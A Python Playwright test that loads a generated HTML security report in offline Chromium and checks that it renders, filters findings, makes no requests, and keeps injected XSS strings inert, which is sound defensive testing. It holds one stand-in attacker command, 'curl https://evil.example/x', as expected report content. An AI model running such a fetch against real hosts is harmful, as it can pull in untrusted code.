"""The HTML report in a real browser: Debian's chromium driven by Playwright, fully offline.

It checks that the page renders, the filters work, no request leaves the page, and nothing from
the injected strings (a file named like an <img onerror>, a message with </script>) executes.
"""

from __future__ import annotations

from pathlib import Path

from airlock.reports.html import HtmlWriter
from tests.browser import ARGS, CHROMIUM, playwright_sync_api
from tests.report_fixture import HOSTILE_MESSAGE, HOSTILE_PATH, sample_report

sync_api = playwright_sync_api()


def test_html_report_renders_filters_and_stays_inert(tmp_path: Path) -> None:
    report_file = tmp_path / "report.html"
    report_file.write_text(HtmlWriter().render(sample_report()), encoding="utf-8")
    requests: list[str] = []  # what reached the router (and was aborted unless it is the report itself)
    seen: list[str] = []  # every request the page issued, as the browser reports them
    dialogs: list[str] = []
    console_errors: list[str] = []

    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        page = browser.new_page(viewport={"width": 1200, "height": 1400})

        def route(r: sync_api.Route) -> None:
            requests.append(r.request.url)
            if r.request.url.startswith(("file://", "data:")) and r.request.url.endswith("report.html"):
                r.continue_()
            else:
                r.abort()

        page.route("**/*", route)
        page.on("request", lambda req: seen.append(req.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: console_errors.append(m.text) if m.type == "error" else None)
        page.goto(report_file.as_uri())
        page.wait_for_load_state("load")

        # Renders: the verdict first, every finding, the hostile strings as plain text.
        assert page.locator("#verdict .word").inner_text().lower() == "gate failed"
        total = len(sample_report().findings)
        assert page.locator("article.finding").count() == total
        assert page.locator("#shown-count").inner_text() == str(total)
        assert page.get_by_text(HOSTILE_PATH, exact=True).count() == 1
        assert HOSTILE_MESSAGE in page.locator("article.finding .msg").all_inner_texts()
        # Nothing injected became markup or ran.
        assert page.locator("img").count() == 0
        assert page.locator("script").count() == 1
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert dialogs == []

        # Filters: only high; then only waived; then everything again.
        for sev in ("critical", "medium", "low", "info"):
            page.locator(f"input[name=severity][value={sev}]").uncheck()
        visible = page.locator("article.finding:not([hidden])")
        assert set(visible.evaluate_all("els => els.map(e => e.dataset.severity)")) == {"high"}
        assert page.locator("#shown-count").inner_text() == str(visible.count())
        for sev in ("critical", "medium", "low", "info"):
            page.locator(f"input[name=severity][value={sev}]").check()
        for st in ("new", "baseline", "suppressed"):
            page.locator(f"input[name=state][value={st}]").uncheck()
        assert visible.evaluate_all("els => els.map(e => e.dataset.state)") == ["waived"]
        assert page.locator(".file:not([hidden])").count() == 1
        for st in ("new", "baseline", "suppressed"):
            page.locator(f"input[name=state][value={st}]").check()
        assert page.locator("article.finding:not([hidden])").count() == total

        # Runtime evidence: a process tree and the blocked requests.
        assert "curl https://evil.example/x" in page.locator("pre.tree").inner_text()
        assert page.locator("table.requests td").count() == 2

        shot = tmp_path / "report.png"
        page.screenshot(path=str(shot), full_page=True)
        browser.close()

    print(f"screenshot: {shot}")
    assert shot.stat().st_size > 10_000
    assert requests == [report_file.as_uri()], f"the page made requests: {requests}"
    assert seen == [report_file.as_uri()], f"the page made requests: {seen}"
    assert not [e for e in console_errors if "Content Security Policy" in e], console_errors
